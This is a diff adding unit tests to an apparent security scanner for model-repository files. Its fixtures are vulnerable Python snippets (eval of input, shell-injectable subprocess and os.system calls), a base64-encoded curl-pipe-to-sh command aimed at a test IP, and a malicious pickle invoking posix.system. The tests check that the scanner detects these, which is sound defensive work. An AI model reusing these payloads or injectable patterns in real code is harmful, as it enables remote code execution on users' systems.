@@ -410,6 +410,32 @@ TEST(JudgeText, FindsUnsafeLoadsInCodeOnly) {
   EXPECT_EQ(python("def load(f):\n    return json.load(f)\n"), Rules{});
 }
 
+TEST(JudgeText, FindsWhatRunsInputButNotWhatChecksIt) {
+  const auto python = [](std::string_view text) { return rules_of(look(text, "app/x.py", AssetKind::source)); };
+  EXPECT_EQ(python("q = input()\nprint(eval(q))\n"), (Rules{"eval-of-input"}));
+  EXPECT_EQ(python("import sys\neval(sys.argv[1])\n"), (Rules{"eval-of-input"}));
+  EXPECT_EQ(python("@mcp.tool()\n@logged\nasync def add(term: str):\n    return eval(term)\n"),
+            (Rules{"eval-of-input"}));
+  EXPECT_EQ(python("def add(term):\n    return eval(term)\n"), Rules{});
+  EXPECT_EQ(python("@tool\ndef add(count: int):\n    return eval(str(count))\n"), Rules{});
+  const std::string head = "import subprocess, shlex\n@app.post('/run')\ndef run(host: str):\n    subprocess.run(";
+  EXPECT_EQ(python(head + "f'ping {host}', shell=True)\n"), (Rules{"shell-of-input"}));
+  EXPECT_EQ(python(head + "'ping ' + shlex.quote(host), shell=True)\n"), Rules{});
+  EXPECT_EQ(python(head + "['ping', host])\n"), Rules{});
+  EXPECT_EQ(python("from flask import request\nimport os\ndef f():\n    os.system(request.args['c'])\n"),
+            (Rules{"shell-of-input"}));
+}
+
+TEST(JudgeText, ReadsCommandsThatAreListsOfWords) {
+  const auto python = [](std::string_view text) { return rules_of(look(text, "app/x.py", AssetKind::source)); };
+  const std::string head = "import subprocess, base64, os\n";
+  const std::string encoded = "base64.b64decode('Y3VybCBodHRwOi8vMTkyLjAuMi4xL3h8c2g=').decode()";
+  EXPECT_EQ(python(head + "subprocess.run(['bash', '-c', " + encoded + "])\n"), (Rules{"attack-command"}));
+  EXPECT_EQ(python(head + "os.execvp('bash', ['bash', '-c', " + encoded + "])\n"), (Rules{"attack-command"}));
+  EXPECT_EQ(python(head + "subprocess.run(['bash', '-c', base64.b64decode(x)])\n"), (Rules{"obfuscated-code"}));
+  EXPECT_EQ(python(head + "subprocess.run(['openssl', 'dgst', base64.b64decode(x)])\n"), Rules{});
+}
+
 TEST(JudgeText, ReadsAProgramOnceHoweverOftenItUnpacksFunctions) {
   // Each call once asked the whole program for a payload: 60,000 of them took longer than a file may.
   std::string program = "import base64, marshal\n";
@@ -465,6 +491,17 @@ TEST(JudgeText, TellsWhatAConfigurationCallsFromNamesOfOtherThings) {
   EXPECT_TRUE(told(R"({"data": {"class": "subprocess.Popen"}})"));
 }
 
+TEST(JudgeText, TakesPairsForPartsOfAPipelineInDescriptionsOfPipelines) {
+  const auto told = [](std::string_view json, std::string_view path) {
+    return found(look(json, path, AssetKind::other), "remote-code");
+  };
+  const std::string_view parts =
+      R"({"_class_name": "UNet2DModel", "_diffusers_version": "1", "blocks": ["Down", "Up"]})";
+  EXPECT_FALSE(told(parts, "unet/config.json"));
+  EXPECT_TRUE(told(parts, "model_index.json"));
+  EXPECT_TRUE(told(R"({"_class_name": "XPipeline", "_diffusers_version": "1", "unet": ["evil", "Net"]})", "a.json"));
+}
+
 TEST(JudgeText, SumsUpDataSetsByColumn) {
   std::string rows = "id,email,note\n";
   for (int i = 0; i < 10; ++i) {
@@ -505,6 +542,22 @@ TEST(JudgeTemplate, EndsCodeWhereJinjaDoes) {
   EXPECT_FALSE(code("{% set missing = '__MISSING__' %}{{ missing }}"));
   EXPECT_FALSE(code("{{ '{' }} write __init__ first {{ '}' }}"));
   EXPECT_FALSE(code("{# __class__ #}{% raw %}{{ x.__class__ }}{% endraw %}"));
+}
+
+TEST(Judge, IsNotCleanWhereAModelsNameStandsOverWhatNoParserKnows) {
+  const auto verdict = [](std::string_view content, std::string_view path) {
+    return look(content, path, AssetKind::other).verdict;
+  };
+  EXPECT_EQ(verdict("\x0A\x7F\1half a message"sv, "graph.pb"), FileVerdict::incomplete);
+  EXPECT_EQ(verdict("\0\0\1model half a table"sv, "variables.index"), FileVerdict::incomplete);
+  EXPECT_FALSE(found(look("\x08\x07\x10\x07"sv, "fingerprint.pb", AssetKind::other), "limit-reached"));
+  EXPECT_NE(verdict("\x08\x07\x10\x07"sv, "fingerprint.pb"), FileVerdict::incomplete);  // a message of another kind
+}
+
+TEST(Judge, FindsPicklesBehindBytesOfNoFormat) {
+  const std::string evil = "junk\x01\xFE" + "\x80\x04\x8C\x05posix\x8C\x06system\x93\x8C\x02id\x85R."s;
+  EXPECT_TRUE(found(look(evil, "weights.bin", AssetKind::other), "pickle-dangerous-call"));
+  EXPECT_TRUE(rules_of(look(evil, "logo.png", AssetKind::other)).empty());
 }
 
 TEST(Judge, SaysNothingOfWhatNoRuleConcerns) {
